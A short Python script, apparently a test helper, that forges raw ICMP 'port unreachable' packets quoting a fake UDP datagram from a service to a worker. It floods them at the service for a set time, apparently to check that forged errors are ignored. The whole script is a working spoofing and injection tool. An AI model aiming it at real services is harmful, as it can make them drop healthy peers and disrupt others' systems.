#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""Says "port unreachable" in a worker's name, again and again: SERVICE WORKER-ADDRESS:PORT SECONDS.

The ICMP packets quote a datagram from the service address, as it was before probes had words that
only the asked one knows.
"""
import socket
import struct
import sys
import time

TALLY_UDP_PORT = 31249


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def unreachable(service, worker, port, words):
    quoted = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(words), 0, 0, 64, 17, 0,
                         socket.inet_aton(service), socket.inet_aton(worker))
    quoted += struct.pack("!HHHH", TALLY_UDP_PORT, port, 8 + len(words), 0) + words
    body = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
    return struct.pack("!BBHI", 3, 3, checksum(body + b"\0" * (len(body) % 2)), 0) + quoted


def main():
    service, worker, seconds = sys.argv[1:]
    address, port = worker.split(":")
    packets = [unreachable(service, address, int(port), words)
               for words in (b"", b"\0", bytes(17))]
    end = time.monotonic() + float(seconds)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as icmp:
        while time.monotonic() < end:
            for packet in packets:
                icmp.sendto(packet, (service, 0))
            time.sleep(0.05)


main()
